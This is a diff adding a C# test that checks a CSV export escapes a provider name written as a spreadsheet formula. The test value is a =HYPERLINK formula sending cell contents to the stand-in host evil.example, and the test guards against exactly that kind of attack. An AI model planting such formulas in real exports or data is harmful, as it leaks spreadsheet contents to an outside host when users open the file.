@@ -232,6 +232,17 @@ public class CabinetTests : IAsyncLifetime
     }
 
     [Fact]
+    public async Task A_provider_named_like_a_formula_is_text_in_the_csv()
+    {
+        const string name = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Big Help\")";
+        await _app.InTenant(_tenant, async (_, db) => { (await db.ProviderOrganizations.SingleAsync(o => o.Id == _bigHelp)).Name = name; await db.SaveChangesAsync(); });
+        var cabinet = await _app.SignedInAsync("cabinet@cab.test");
+        var text = await (await cabinet.GetAsync("/api/v1/cabinet/tables/provider.csv?from=2026-08-01&to=2027-07-31")).Content.ReadAsStringAsync();
+        var row = Assert.Single(text.Split("\r\n"), l => l.Contains("HYPERLINK"));
+        Assert.StartsWith("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Big Help\"\")\",", row);
+    }
+
+    [Fact]
     public async Task The_dashboard_is_json_in_the_api_and_its_openapi_document()
     {
         var cabinet = await _app.SignedInAsync("cabinet@cab.test");
